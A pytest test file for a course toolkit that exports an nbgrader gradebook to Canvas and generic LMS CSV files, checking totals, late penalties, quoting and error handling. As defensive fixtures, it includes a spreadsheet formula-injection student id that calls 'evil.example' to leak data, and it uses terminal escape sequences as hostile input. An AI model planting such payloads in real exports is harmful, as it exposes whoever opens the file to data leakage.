"""LMS export (coursekit/classroom/export.py): grades-canvas.csv for Canvas's gradebook import and
grades-lms.csv for other LMSs, from a gradebook built here without running a kernel.

The class: full marks, a late submission with a penalty, a penalty larger than the score,
a written answer not graded yet, no submission at all, a student id that is a spreadsheet
formula and names with commas, quotes and a leading minus.
"""
import csv
import datetime
import io
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
from conftest import ROOT, make, nbgrader_env
from nbgrader.api import Gradebook

from coursekit import escape
from coursekit.classroom import export
from coursekit.grading import attention
from coursekit.course import ASSIGNMENT, COURSE_ID, NOTEBOOK, gradebook_url
from coursekit.examples.samples import course_copy

NOTEBOOK_ID = Path(NOTEBOOK).stem
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'
DUE = datetime.datetime(2026, 3, 2, 12, 0, 0)
# student id: (first name, last name, email, scores of test_a, test_b, answer, late penalty,
# seconds late); None for the scores: no submission; None for answer: not graded yet.
CLASS = {
    "ada": ("Ada", "Lovelace", "ada@example.org", (10, 15, 3, 0, 0)),
    "late": ("Lee", "Late", None, (10, 15, 3, 5, 3600)),
    "floor": ("Flo", "Floor", None, (1, 0, 0, 4, 86400)),
    "waiting": ("Wai", "Ting", None, (6, 0, None, 0, 0)),
    "obrien": ('Pat "PJ"', "O'Brien, Jr.", "pj@example.org", (10, 7.5, 2, 0, 0)),
    FORMULA_ID: ("-2+3", "@SUM(A1)", "=1+1@example.org", (4, 0, 1, 0, 0)),
    "nosub": ("No", "Submission", None, None),
}
# Totals by hand: points less the late penalty, never below 0; no submission: empty.
TOTALS = {"ada": "28", "late": "23", "floor": "0", "waiting": "6", "obrien": "19.5",
          FORMULA_ID: "5", "nosub": ""}
MAX = "28"  # 10 + 15 autograded, 3 by hand
CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
TITLE = "UDL 11.3 Batch normalization (bn)"


def build_gradebook(path):
    """A gradebook as grading leaves it, for CLASS."""
    with warnings.catch_warnings(), Gradebook(gradebook_url(path.parent), COURSE_ID) as gradebook:
        warnings.simplefilter("ignore")  # nbgrader's add_submission makes SQLAlchemy warn
        gradebook.add_assignment(ASSIGNMENT, duedate=DUE.isoformat(" "))
        gradebook.add_notebook(NOTEBOOK_ID, ASSIGNMENT)
        for cell, max_score, kind in (("test_a", 10, "code"), ("test_b", 15, "code"),
                                      ("answer", 3, "markdown")):
            gradebook.add_grade_cell(cell, NOTEBOOK_ID, ASSIGNMENT, max_score=max_score,
                                     cell_type=kind)
        for student, (first, last, email, scores) in CLASS.items():
            gradebook.add_student(student, first_name=first, last_name=last, email=email)
            if scores is None:
                continue
            a, b, answer, penalty, late = scores
            gradebook.add_submission(
                ASSIGNMENT, student,
                timestamp=(DUE + datetime.timedelta(seconds=late - 60 * (not late)))
                .isoformat(" "))
            for cell, auto in (("test_a", a), ("test_b", b)):
                grade = gradebook.find_grade(cell, NOTEBOOK_ID, ASSIGNMENT, student)
                grade.auto_score, grade.needs_manual_grade = auto, False
            grade = gradebook.find_grade("answer", NOTEBOOK_ID, ASSIGNMENT, student)
            grade.manual_score, grade.needs_manual_grade = answer, answer is None
            gradebook.find_submission_notebook(
                NOTEBOOK_ID, ASSIGNMENT, student).late_submission_penalty = penalty
            gradebook.db.commit()
    return path


@pytest.fixture(scope="module")
def gradebook_file(tmp_path_factory):
    return build_gradebook(tmp_path_factory.mktemp("gradebook") / "gradebook.db")


def run_plugin(plugin_class, gradebook_file, to, **traits):
    plugin = plugin_class(to=str(to), **traits)
    with Gradebook(gradebook_url(gradebook_file.parent), COURSE_ID) as gradebook:
        plugin.export(gradebook)
    return read(to)


def read(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def gradebook_totals(gradebook_file):
    """{student: total} as nbgrader's API computes it: score less the late penalty."""
    with Gradebook(gradebook_url(gradebook_file.parent), COURSE_ID) as gradebook:
        return {s.student_id: max(0.0, s.score - s.late_submission_penalty)
                for s in gradebook.assignment_submissions(ASSIGNMENT)}


def by_canvas_login(rows):
    return {row[3]: row for row in rows[2:]}


def test_canvas_csv_has_canvas_header_points_possible_and_one_assignment_column(
        gradebook_file, tmp_path):
    rows = run_plugin(export.CanvasExport, gradebook_file, tmp_path / "canvas.csv")
    # Canvas's importer: Student, ID, then SIS User ID and SIS Login ID, and Section last
    # of the student columns; every other column is an assignment.
    assert rows[0] == CANVAS_HEADER + [TITLE]
    assert rows[1][0].strip() == "Points Possible" and rows[1][1:] == ["", "", "", "", MAX]
    assert {len(row) for row in rows} == {6}
    assert len(rows) == 2 + len(CLASS)


def test_canvas_totals_are_the_gradebooks_scores(gradebook_file, tmp_path):
    rows = by_canvas_login(run_plugin(export.CanvasExport, gradebook_file, tmp_path / "c.csv"))
    expected = {escape.neutralize(student): total for student, total in TOTALS.items()}
    assert {login: row[5] for login, row in rows.items()} == expected
    # ...and what nbgrader's API says, for every student who handed in.
    api = gradebook_totals(gradebook_file)
    assert {escape.neutralize(s) for s in api} == {k for k, v in expected.items() if v}
    for student, total in api.items():
        assert float(rows[escape.neutralize(student)][5]) == pytest.approx(total)
    # The nbgrader id goes to SIS Login ID; the names as Canvas writes them, Last, First.
    assert rows["ada"][:5] == ["Lovelace, Ada", "", "", "ada", ""]
    assert rows["obrien"][0] == "O'Brien, Jr., Pat \"PJ\""


def test_no_spreadsheet_formula_reaches_the_file(gradebook_file, tmp_path):
    canvas = run_plugin(export.CanvasExport, gradebook_file, tmp_path / "canvas.csv")
    plain = run_plugin(export.PlainExport, gradebook_file, tmp_path / "plain.csv")
    for rows in canvas, plain:
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(escape.FORMULA_START)
                    and cell.strip() != "Points Possible"]
    assert "'" + FORMULA_ID in by_canvas_login(canvas)
    assert by_canvas_login(canvas)["'" + FORMULA_ID][0] == "'@SUM(A1), -2+3"
    hostile = next(row for row in plain if row[0] == "'" + FORMULA_ID)
    assert hostile[1:4] == ["'@SUM(A1)", "'-2+3", "'=1+1@example.org"]
    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", "\nx"]:
        assert escape.neutralize(text) == "'" + text
    assert escape.neutralize("ada") == "ada" and escape.neutralize(None) == ""


def test_csv_round_trips_commas_quotes_and_newlines(gradebook_file, tmp_path):
    path = tmp_path / "canvas.csv"
    rows = run_plugin(export.CanvasExport, gradebook_file, path, section='Sec "A",\n2')
    assert by_canvas_login(rows)["obrien"][4] == 'Sec "A",\n2'
    assert by_canvas_login(rows)["obrien"][0] == "O'Brien, Jr., Pat \"PJ\""
    # RFC 4180 as Canvas's Ruby CSV reads it: UTF-8, CRLF, fields with a comma, quote or
    # newline quoted and their quotes doubled; writing the rows back gives the same bytes.
    raw = path.read_bytes()
    again = io.StringIO(newline="")
    csv.writer(again).writerows(rows)
    assert again.getvalue().encode("utf-8") == raw
    assert raw.startswith(b"Student,ID,") and raw.count(b"\r\n") == len(rows)
    assert b'"O\'Brien, Jr., Pat ""PJ"""' in raw and b'"Sec ""A"",\n2"' in raw


def test_canvas_column_mapping_is_configurable(gradebook_file, tmp_path):
    rows = run_plugin(export.CanvasExport, gradebook_file, tmp_path / "c.csv",
                      id_column="SIS User ID", assignment_title="Batch norm",
                      canvas_assignment_id=4711, points_possible_row=False, missing="0")
    assert rows[0] == CANVAS_HEADER + ["Batch norm (4711)"]
    by_sis_user = {row[2]: row for row in rows[1:]}
    assert len(by_sis_user) == len(CLASS) and by_sis_user["ada"][3] == ""
    assert by_sis_user["nosub"][5] == "0" and by_sis_user["ada"][5] == "28"
    rows = run_plugin(export.CanvasExport, gradebook_file, tmp_path / "ex.csv", missing="EX",
                      id_column="ID", student=["ada", "nosub"])
    assert [row[1] for row in rows[2:]] == ["ada", "nosub"]
    assert rows[3][5] == "EX"


def test_plain_csv(gradebook_file, tmp_path):
    rows = run_plugin(export.PlainExport, gradebook_file, tmp_path / "plain.csv")
    assert rows[0] == export.PLAIN_COLUMNS
    table = {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}
    assert sorted(table) == sorted(escape.neutralize(s) for s in CLASS)
    assert {s: row["score"] for s, row in table.items()} == {
        escape.neutralize(s): t for s, t in TOTALS.items()}
    assert {row["max_score"] for row in table.values()} == {MAX}
    assert [table["late"][k] for k in export.PLAIN_COLUMNS[4:]] == [
        "23", MAX, "28", "5", "3600", "no"]
    assert (table["floor"]["raw_score"], table["floor"]["late_penalty"]) == ("1", "4")
    assert table["waiting"]["needs_manual_grade"] == "yes"
    assert table["ada"]["seconds_late"] == "0"
    assert list(table["nosub"].values())[4:] == ["", MAX, "", "", "", ""]
    assert table["obrien"]["last_name"] == "O'Brien, Jr." and table["ada"]["email"] == \
        "ada@example.org"


def test_bad_settings_say_what_is_wrong(gradebook_file, tmp_path):
    for traits, message in (({"missing": "zero"}, "missing must be empty or a number"),
                            ({"assignment": ["bn", "other"]}, "one assignment at a time"),
                            ({"assignment": ["other"]}, "no assignment 'other'"),
                            ({"assignment_title": " "}, "assignment_title is empty")):
        with pytest.raises(export.ExportError, match=message):
            run_plugin(export.CanvasExport, gradebook_file, tmp_path / "x.csv", **traits)
    assert not (tmp_path / "x.csv").exists() and not list(tmp_path.iterdir())


def nbgrader_export(root, *args):
    return subprocess.run([str(Path(sys.executable).parent / "nbgrader"), "export", *args],
                          cwd=root, env=nbgrader_env(), capture_output=True, text=True)


@pytest.fixture(scope="module")
def course(tmp_path_factory, gradebook_file):
    """A course copy (its config makes CanvasExport nbgrader's export) and the class's
    gradebook."""
    root = course_copy(tmp_path_factory.mktemp("course"))
    (root / "gradebook.db").write_bytes(gradebook_file.read_bytes())
    return root


def test_nbgrader_export_writes_the_canvas_and_plain_files(course, gradebook_file, tmp_path):
    result = nbgrader_export(course)
    assert result.returncode == 0, result.stderr
    assert "Using exporter: CanvasExport" in result.stderr
    expected = run_plugin(export.CanvasExport, gradebook_file, tmp_path / "canvas.csv")
    assert read(course / "grades-canvas.csv") == expected
    # The written answer one student still waits for is said, and the formula id named.
    assert "1 of 6 submissions has a written answer not graded yet" in result.stderr
    assert "will not match in the LMS" in result.stderr and "HYPERLINK" in result.stderr
    result = nbgrader_export(course, "--exporter=coursekit.classroom.export.PlainExport",
                             "--assignment=%s" % ASSIGNMENT, "--to=other.csv")
    assert result.returncode == 0, result.stderr
    expected = run_plugin(export.PlainExport, gradebook_file, tmp_path / "plain.csv")
    assert read(course / "other.csv") == expected


def test_the_export_names_students_who_need_attention(gradebook_file, tmp_path):
    root = course_copy(tmp_path / "course")
    (root / "gradebook.db").write_bytes(gradebook_file.read_bytes())
    for student in ("ada", "late"):
        (root / "submitted" / student / ASSIGNMENT).mkdir(parents=True)
    attention.record(root, ASSIGNMENT, "late", attention.UNFINISHED)
    result = nbgrader_export(root)
    assert result.returncode == 0, result.stderr
    said = [line for line in result.stderr.splitlines() if "need attention" in line]
    # ada has a submission and no graded notebook: not graded yet, so she is named too.
    assert len(said) == 1 and said[0].endswith("until that is settled: ada, late"), said


def test_missing_or_broken_gradebook_is_one_line_and_exit_1(course, tmp_path):
    empty = course_copy(tmp_path / "course")
    result = nbgrader_export(empty)
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if "ERROR" in line]
    assert errors == ["[ExportApp | ERROR] No gradebook at %s: grade the class first "
                      "(make grade)." % (empty / "gradebook.db")], result.stderr
    assert "Traceback" not in result.stderr
    # nbgrader would have created an empty gradebook; the export stops before it does.
    assert not (empty / "gradebook.db").exists() and not (empty / "grades-canvas.csv").exists()
    (empty / "gradebook.db").write_text("not a database")
    result = nbgrader_export(empty)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "is not an nbgrader gradebook" in result.stderr
    # A gradebook without the assignment (nothing released yet).
    (empty / "gradebook.db").unlink()
    with Gradebook(gradebook_url(empty), COURSE_ID):
        pass
    result = nbgrader_export(empty)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "The gradebook has no assignment 'bn'" in result.stderr
    assert not (empty / "grades-canvas.csv").exists()


def test_course_config_makes_canvas_the_export():
    # nbgrader's own config loading, as `nbgrader export` does it, exporting nothing.
    probe = ("from nbgrader.apps import ExportApp\n"
             "app = ExportApp.instance()\napp.initialize([])\n"
             "print(app.plugin_class.__module__ + '.' + app.plugin_class.__name__)\n")
    result = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, env=nbgrader_env(),
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["coursekit.classroom.export.CanvasExport"], result.stderr


def test_make_export_writes_both_files(tmp_path, gradebook_file):
    # The course's Makefile and config as they are.
    root = course_copy(tmp_path / "course")
    (root / "gradebook.db").write_bytes(gradebook_file.read_bytes())
    make(root, "export")
    assert read(root / "grades-canvas.csv") == run_plugin(
        export.CanvasExport, gradebook_file, tmp_path / "canvas.csv")
    assert read(root / "grades-lms.csv") == run_plugin(
        export.PlainExport, gradebook_file, tmp_path / "plain.csv")


def test_control_characters_are_escaped_visibly_and_line_breaks_of_free_text_kept():
    """Issue 24: one helper (escape.printable) for every name the instructor reads."""
    assert escape.printable("a\x1b[31mb\x07\x7f\x9b\u202ec\u2066d\u2028e") == \
        "a\\x1b[31mb\\x07\\x7f\\x9b\\u202ec\\u2066d\\u2028e"
    assert escape.printable("line\none\ttab") == "line\\x0aone\\x09tab"
    assert escape.printable("line\none", keep="\n") == "line\none"
    assert escape.printable("Zoë Ørsted, 李, \u200f") == "Zoë Ørsted, 李, \\u200f"
    assert escape.printable(None) == ""
    # A cell of free text keeps its lines; an id keeps nothing, and is still no formula.
    assert escape.neutralize("Sec\n\x1b2") == "Sec\n\\x1b2"
    assert escape.neutralize("=1\n+2", keep="") == "'=1\\x0a+2"
    assert escape.neutralize("\x1b[2Jbob", keep="") == "\\x1b[2Jbob"


def test_the_grading_log_escapes_what_it_shows_and_leaves_unread_what_it_would_not():
    """The autograde log's filter (coursekit.grading.autograde.PrintableLog): what a handler shows
    has its control characters escaped, a student id whole; a record no handler shows
    (nbclient's debug line for every kernel message) is never formatted."""
    import logging

    from coursekit.grading.autograde import printable_log

    log = logging.getLogger("udl-test-grading-log")
    log.setLevel(logging.DEBUG)
    log.propagate = False
    shown = io.StringIO()
    handler = logging.StreamHandler(shown)
    handler.setLevel(logging.INFO)
    log.addHandler(handler)
    printable_log(log).ids.add("ada\n\x1b[2J")
    formatted = []

    class KernelMessage:
        def __str__(self):
            formatted.append(self)
            return "{'text': 'a long reply'}"

    try:
        log.debug("content: %s", KernelMessage())
        log.info("Converting submitted/ada\n\x1b[2J/bn\n  \x07next line")
    finally:
        log.removeHandler(handler)
    assert formatted == []
    assert shown.getvalue() == "Converting submitted/ada\\x0a\\x1b[2J/bn\n  \\x07next line\n"
    handler.setLevel(logging.DEBUG)  # an instructor's --log-level=DEBUG shows it, escaped
    log.addHandler(handler)
    try:
        log.debug("content: %s\x1b", KernelMessage())
    finally:
        log.removeHandler(handler)
    assert len(formatted) == 1
    assert shown.getvalue().endswith("content: {'text': 'a long reply'}\\x1b\n")
